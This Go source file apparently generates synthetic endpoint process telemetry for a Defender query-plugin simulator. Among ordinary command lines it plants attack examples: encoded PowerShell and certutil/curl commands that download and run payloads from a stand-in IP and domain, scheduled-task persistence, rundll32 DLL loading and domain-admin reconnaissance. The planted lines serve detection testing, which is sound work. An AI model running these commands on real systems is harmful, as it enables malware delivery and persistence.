package dataset

import (
	"crypto/md5"
	"crypto/sha1"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"strings"
	"unicode/utf16"

	"github.com/defender-steampipe/steampipe-plugin-defender/internal/sim/engine"
)

// image is an executable file that processes run from.
type image struct {
	Name, Path            string // FileName, and FolderPath including the file name
	Company, Product      string
	Version, Description  string
	Original              string
	Size                  int64
	SHA1, SHA256, MD5     string
	Cmds                  []string
	Parents               []string // plausible parent image names
	User                  bool     // runs as the signed-in user rather than a service account
	Launcher              bool     // commonly starts other processes
	Signer, SignatureStat string
	weight                int
	// v holds the fields as engine values, boxed once by hash.
	v struct {
		Name, Path, SHA1, SHA256, MD5, Company, Product, Version     engine.Value
		Description, Original, Internal, Signer, SignatureStat, Size engine.Value
		Cmds                                                         []engine.Value
	}
}

const (
	rareIP     = "185.220.101.47"
	rareDomain = "cdn-update-check.example"
)

// encodedPayloads are the scripts hidden in the planted encoded PowerShell
// commands.
var encodedPayloads = []string{
	"IEX (New-Object Net.WebClient).DownloadString('http://" + rareIP + "/a.ps1')",
	"Invoke-WebRequest -Uri https://" + rareDomain + "/stage2 -OutFile $env:TEMP\\svc.exe; Start-Process $env:TEMP\\svc.exe",
}

// encodePS encodes a script the way powershell -EncodedCommand expects:
// base64 of its UTF-16LE bytes.
func encodePS(s string) string {
	u := utf16.Encode([]rune(s))
	b := make([]byte, 2*len(u))
	for i, c := range u {
		b[2*i], b[2*i+1] = byte(c), byte(c>>8)
	}
	return base64.StdEncoding.EncodeToString(b)
}

// encodedCommands are the story command lines.
var encodedCommands = []engine.Value{
	`powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand ` + encodePS(encodedPayloads[0]),
	`"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -nop -w hidden -enc ` + encodePS(encodedPayloads[1]),
}

const (
	sys32 = `C:\Windows\System32\`
	pf    = `C:\Program Files\`
	pf86  = `C:\Program Files (x86)\`
	msft  = "Microsoft Corporation"
	winOS = "Microsoft® Windows® Operating System"
)

func win(name, dir, desc string, size int64, weight int, user, launcher bool, parents string, cmds ...string) *image {
	return &image{
		Name: name, Path: dir + name, Company: msft, Product: winOS, Version: "10.0.22621.3527",
		Description: desc, Original: name, Size: size, weight: weight, User: user, Launcher: launcher,
		Parents: strings.Fields(parents), Cmds: cmds, Signer: "OsVendor", SignatureStat: "Valid",
	}
}

func app(name, dir, company, product, version, desc string, size int64, weight int, parents string, cmds ...string) *image {
	return &image{
		Name: name, Path: dir + name, Company: company, Product: product, Version: version,
		Description: desc, Original: name, Size: size, weight: weight, User: true,
		Parents: strings.Fields(parents), Cmds: cmds, Signer: "ThirdParty", SignatureStat: "Valid",
	}
}

func nix(name, dir string, size int64, weight int, user, launcher bool, parents string, cmds ...string) *image {
	return &image{
		Name: name, Path: dir + name, Size: size, weight: weight, User: user, Launcher: launcher,
		Parents: strings.Fields(parents), Cmds: cmds, Signer: "Unknown", SignatureStat: "Unknown",
	}
}

var windowsImages = []*image{
	win("explorer.exe", `C:\Windows\`, "Windows Explorer", 5562296, 3, true, true, "userinit.exe", `C:\Windows\Explorer.EXE`),
	win("svchost.exe", sys32, "Host Process for Windows Services", 57360, 12, false, true, "services.exe",
		`C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule`, `C:\Windows\System32\svchost.exe -k LocalServiceNetworkRestricted -p`,
		`C:\Windows\system32\svchost.exe -k wsappx -p -s ClipSVC`, `C:\Windows\system32\svchost.exe -k DcomLaunch -p`),
	win("cmd.exe", sys32, "Windows Command Processor", 323584, 6, true, true, "explorer.exe powershell.exe winword.exe svchost.exe",
		`"C:\Windows\system32\cmd.exe" /c "ipconfig /all > %TEMP%\net_info.txt"`, `cmd.exe /c whoami /groups`,
		`C:\Windows\system32\cmd.exe /d /s /c "npm run build_prod"`, `cmd.exe /c echo 100%_done`),
	win("powershell.exe", sys32+`WindowsPowerShell\v1.0\`, "Windows PowerShell", 452608, 6, true, true, "explorer.exe cmd.exe winword.exe svchost.exe",
		`powershell.exe -ExecutionPolicy Bypass -File "C:\ProgramData\Larkspur\Scripts\inventory.ps1"`,
		`"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -NoLogo -Command "Get-ChildItem 'C:\Users\' | Measure-Object"`,
		`powershell.exe -nop -c "Get-Service | Where-Object {$_.Status -eq 'Running'}"`),
	win("conhost.exe", sys32, "Console Window Host", 868352, 5, true, false, "cmd.exe powershell.exe", `\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1`),
	win("taskhostw.exe", sys32, "Host Process for Windows Tasks", 99640, 2, true, false, "svchost.exe", `taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}`),
	win("WmiPrvSE.exe", sys32+`wbem\`, "WMI Provider Host", 496640, 2, false, true, "svchost.exe", `C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding`),
	win("rundll32.exe", sys32, "Windows host process (Rundll32)", 71168, 2, true, false, "explorer.exe svchost.exe cmd.exe",
		`rundll32.exe C:\Windows\system32\shell32.dll,Control_RunDLL`, `"C:\Windows\system32\rundll32.exe" C:\Users\Public\lib_64.dll,DllRegisterServer`),
	win("msiexec.exe", sys32, "Windows® installer", 69632, 1, false, false, "services.exe svchost.exe", `C:\Windows\system32\msiexec.exe /V`),
	win("whoami.exe", sys32, "whoami - displays logged on user information", 73728, 1, true, false, "cmd.exe powershell.exe", `whoami /all`, `whoami.exe /priv`),
	win("net.exe", sys32, "Net Command", 57344, 1, true, false, "cmd.exe powershell.exe", `net user /domain`, `net group "Domain Admins" /domain`),
	win("schtasks.exe", sys32, "Task Scheduler Configuration Tool", 235008, 1, true, false, "cmd.exe powershell.exe",
		`schtasks /create /tn "OneDrive Sync Helper" /tr "C:\Users\Public\updater.exe" /sc onlogon /f`),
	win("certutil.exe", sys32, "CertUtil.exe", 1574400, 1, true, false, "cmd.exe powershell.exe", `certutil -urlcache -split -f http://`+rareIP+`/p.txt C:\Users\Public\p.txt`),
	win("notepad.exe", sys32, "Notepad", 201216, 2, true, false, "explorer.exe", `"C:\Windows\system32\NOTEPAD.EXE" C:\Users\Public\Documents\notes_2024.txt`),
	app("WINWORD.EXE", pf+`Microsoft Office\root\Office16\`, msft, "Microsoft Office", "16.0.17328.20162", "Microsoft Word", 1633632, 4, "explorer.exe outlook.exe",
		`"C:\Program Files\Microsoft Office\Root\Office16\WINWORD.EXE" /n "C:\Users\Public\Downloads\Invoice_4471.docm" /o ""`),
	app("EXCEL.EXE", pf+`Microsoft Office\root\Office16\`, msft, "Microsoft Office", "16.0.17328.20162", "Microsoft Excel", 64012128, 3, "explorer.exe outlook.exe",
		`"C:\Program Files\Microsoft Office\Root\Office16\EXCEL.EXE" "\\fs-01\finance$\Q3 forecast.xlsx"`),
	app("OUTLOOK.EXE", pf+`Microsoft Office\root\Office16\`, msft, "Microsoft Office", "16.0.17328.20162", "Microsoft Outlook", 42893152, 3, "explorer.exe",
		`"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE" `),
	app("msedge.exe", pf86+`Microsoft\Edge\Application\`, msft, "Microsoft Edge", "124.0.2478.80", "Microsoft Edge", 3937640, 6, "explorer.exe outlook.exe",
		`"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --single-argument https://portal.larkspur.example/`,
		`"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --type=renderer --lang=en-GB`),
	app("chrome.exe", pf+`Google\Chrome\Application\`, "Google LLC", "Google Chrome", "118.0.5993.89", "Google Chrome", 2806296, 4, "explorer.exe",
		`"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=utility --utility-sub-type=network.mojom.NetworkService`),
	app("ms-teams.exe", pf+`WindowsApps\MSTeams_24102.2223.2870.9480_x64__8wekyb3d8bbwe\`, msft, "Microsoft Teams", "24102.2223.2870.9480", "Microsoft Teams", 1286640, 3, "explorer.exe",
		`"ms-teams.exe" msteams:system-initiated`),
	app("OneDrive.exe", `C:\Users\Public\AppData\Local\Microsoft\OneDrive\`, msft, "Microsoft OneDrive", "24.076.0414.0005", "Microsoft OneDrive", 3568112, 2, "explorer.exe",
		`"C:\Users\Public\AppData\Local\Microsoft\OneDrive\OneDrive.exe" /background`),
	app("Code.exe", pf+`Microsoft VS Code\`, msft, "Visual Studio Code", "1.89.1", "Visual Studio Code", 158400000, 2, "explorer.exe",
		`"C:\Program Files\Microsoft VS Code\Code.exe" --type=renderer C:\src\billing_api`),
	app("git.exe", pf+`Git\cmd\`, "The Git Development Community", "Git", "2.45.1.windows.1", "Git for Windows", 45640, 2, "cmd.exe Code.exe powershell.exe",
		`git.exe fetch --all --prune`, `"C:\Program Files\Git\cmd\git.exe" commit -m "fix: handle 100% & 'quoted' values"`),
	app("python.exe", pf+`Python312\`, "Python Software Foundation", "Python", "3.12.3", "Python", 103192, 1, "cmd.exe powershell.exe Code.exe",
		"python.exe -c \"print('a\\tb')\"\tscripts\\etl_job.py", `python.exe C:\src\tools\report_gen.py --out "C:\Reports\monthly_%DATE%.csv"`),
}

var serverImages = []*image{
	app("sqlservr.exe", pf+`Microsoft SQL Server\MSSQL16.MSSQLSERVER\MSSQL\Binn\`, msft, "Microsoft SQL Server", "2022.160.4115.5", "SQL Server Windows NT - 64 Bit", 471128, 4, "services.exe",
		`"C:\Program Files\Microsoft SQL Server\MSSQL16.MSSQLSERVER\MSSQL\Binn\sqlservr.exe" -sMSSQLSERVER`),
	win("lsass.exe", sys32, "Local Security Authority Process", 59456, 1, false, false, "wininit.exe", `C:\Windows\system32\lsass.exe`),
	win("dsamain.exe", sys32, "AD DS Database", 120000, 1, false, false, "services.exe", `dsamain.exe -ntds`),
	win("wsmprovhost.exe", sys32, "Host process for WinRM plug-ins", 42496, 2, false, true, "svchost.exe", `C:\Windows\system32\wsmprovhost.exe -Embedding`),
}

var linuxImages = []*image{
	nix("bash", "/usr/bin/", 1396520, 6, true, true, "sshd bash sudo crond", "-bash", "bash -c 'cd /srv/app && ./deploy.sh --env=prod'",
		"/bin/bash /opt/larkspur/backup.sh"),
	nix("sshd", "/usr/sbin/", 921288, 3, false, true, "systemd", "sshd: deploy [priv]", "/usr/sbin/sshd -D"),
	nix("sudo", "/usr/bin/", 232416, 2, true, true, "bash", "sudo systemctl restart nginx", "sudo -u postgres psql -c \"select 1\""),
	nix("curl", "/usr/bin/", 260328, 3, true, false, "bash python3", "curl -fsSL https://packages.larkspur.example/install.sh",
		"curl -s http://"+rareIP+"/x86_64 -o /tmp/.cache_upd"),
	nix("python3", "/usr/bin/", 6624960, 2, true, true, "bash crond", "python3 /opt/larkspur/etl/run.py --since 24h", "python3 -m http.server 8080"),
	nix("nginx", "/usr/sbin/", 1190472, 2, false, false, "systemd", "nginx: worker process"),
	nix("crond", "/usr/sbin/", 75664, 1, false, true, "systemd", "/usr/sbin/crond -n"),
	nix("dockerd", "/usr/bin/", 98762040, 1, false, true, "systemd", "/usr/bin/dockerd -H fd:// --containerd=/run/containerd/containerd.sock"),
	nix("git", "/usr/bin/", 4023456, 2, true, false, "bash", "git pull --ff-only", "git clone https://git.larkspur.example/ops/infra.git"),
	nix("make", "/usr/bin/", 256072, 1, true, true, "bash", "make -j2 build"),
}

var macImages = []*image{
	nix("zsh", "/bin/", 1361200, 3, true, true, "Terminal launchd", "-zsh"),
	nix("Terminal", "/System/Applications/Utilities/Terminal.app/Contents/MacOS/", 2200000, 1, true, true, "launchd", "/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal"),
	nix("curl", "/usr/bin/", 189000, 2, true, false, "zsh", "curl -O https://cdn.figma-assets.example/plugin.zip"),
	nix("Google Chrome", "/Applications/Google Chrome.app/Contents/MacOS/", 2400000, 3, true, false, "launchd", "/Applications/Google Chrome.app/Contents/MacOS/Google Chrome"),
}

// specialImages pin DeviceProcessEvents rows to images with awkward names
// and command lines: case variants, control characters, non-ASCII text.
// They live in the process model so that child rows naming them as parent
// agree. All of these rows land on Windows workstations.
var specialImages = func() []*image {
	ps := func(name, cmd string) *image {
		im := *psImage
		im.Name, im.Original, im.Path, im.Cmds = name, name, sys32+`WindowsPowerShell\v1.0\`+name, []string{cmd}
		return &im
	}
	cmd := *windowsImages[2]
	cmd.Cmds = []string{"cmd.exe /c \"echo line1\tcol2\r\nline2\" && type C:\\Users\\Public\\a_b%20c.txt"}
	de := app("Rechnung_Größe_ü_é.exe", `C:\Users\Public\Downloads\`, "", "", "", "", 734003, 0, "explorer.exe", `"C:\Users\Public\Downloads\Rechnung_Größe_ü_é.exe" /S`)
	ru := app("отчёт_報告_🚀.exe", `C:\Users\Public\Downloads\`, "", "", "", "", 1200371, 0, "explorer.exe", `"C:\Users\Public\Downloads\отчёт_報告_🚀.exe" --silent`)
	m := make([]*image, 14)
	m[9] = ps("PowerShell.exe", `PowerShell.exe -NoProfile -Command "Write-Output 'it''s 100% done_ok'"`)
	m[10] = ps("POWERSHELL.EXE", `POWERSHELL.EXE -ENC `+encodePS("whoami /all"))
	m[11], m[12], m[13] = &cmd, de, ru
	for _, im := range m[9:] {
		im.hash()
	}
	return m
}()

// roots are the long-lived processes that start the rest; they are never
// rows themselves but appear as parents.
var roots = map[string]*image{}

func init() {
	for _, im := range []*image{
		win("services.exe", sys32, "Services and Controller app", 744936, 0, false, true, "wininit.exe", `C:\Windows\system32\services.exe`),
		win("wininit.exe", sys32, "Windows Start-Up Application", 488448, 0, false, true, "smss.exe", `wininit.exe`),
		win("userinit.exe", sys32, "Userinit Logon Application", 38912, 0, true, true, "winlogon.exe", `C:\Windows\system32\userinit.exe`),
		win("winlogon.exe", sys32, "Windows Logon Application", 905216, 0, false, true, "smss.exe", `winlogon.exe`),
		nix("systemd", "/usr/lib/systemd/", 96016, 0, false, true, "", "/sbin/init splash"),
		nix("launchd", "/sbin/", 368288, 0, false, true, "", "/sbin/launchd"),
	} {
		roots[strings.ToLower(im.Name)] = im
	}
	for _, set := range [][]*image{windowsImages, serverImages, linuxImages, macImages} {
		for _, im := range set {
			im.hash()
		}
	}
	for _, im := range roots {
		im.hash()
	}
}

// hash gives an image stable SHA1, SHA256 and MD5 values derived from its
// path, so every row that mentions it agrees.
func (im *image) hash() {
	// Windows paths are case-insensitive: PowerShell.exe and
	// powershell.exe are the same file.
	p := strings.ToLower(im.Path)
	s1 := sha1.Sum([]byte("sha1:" + p))
	s2 := sha256.Sum256([]byte("sha256:" + p))
	m := md5.Sum([]byte("md5:" + p))
	im.SHA1, im.SHA256, im.MD5 = hex.EncodeToString(s1[:]), hex.EncodeToString(s2[:]), hex.EncodeToString(m[:])
	v := &im.v
	v.Name, v.Path, v.SHA1, v.SHA256, v.MD5 = im.Name, im.Path, im.SHA1, im.SHA256, im.MD5
	v.Company, v.Product, v.Version, v.Description = im.Company, im.Product, im.Version, im.Description
	v.Original, v.Internal = im.Original, strings.TrimSuffix(im.Original, ".exe")
	v.Signer, v.SignatureStat, v.Size = im.Signer, im.SignatureStat, im.Size
	v.Cmds = make([]engine.Value, len(im.Cmds))
	for i, c := range im.Cmds {
		v.Cmds[i] = c
	}
}

// imagesFor lists the images that run on d, with weights expanded.
func imagesFor(d *device) []*image {
	var set []*image
	switch {
	case d.Linux:
		set = linuxImages
	case d.Mac:
		set = macImages
	case d.Server:
		set = append(append([]*image{}, windowsImages[:13]...), serverImages...)
	default:
		set = windowsImages
	}
	var out []*image
	for _, im := range set {
		for k := 0; k < im.weight; k++ {
			out = append(out, im)
		}
	}
	return out
}

// rootFor returns the long-lived ancestor that starts im when no recorded
// parent fits.
func rootFor(im *image, d *device) *image {
	for _, p := range im.Parents {
		if r, ok := roots[strings.ToLower(p)]; ok {
			return r
		}
	}
	switch {
	case d.Linux:
		return roots["systemd"]
	case d.Mac:
		return roots["launchd"]
	case im.User:
		return roots["userinit.exe"]
	}
	return roots["services.exe"]
}
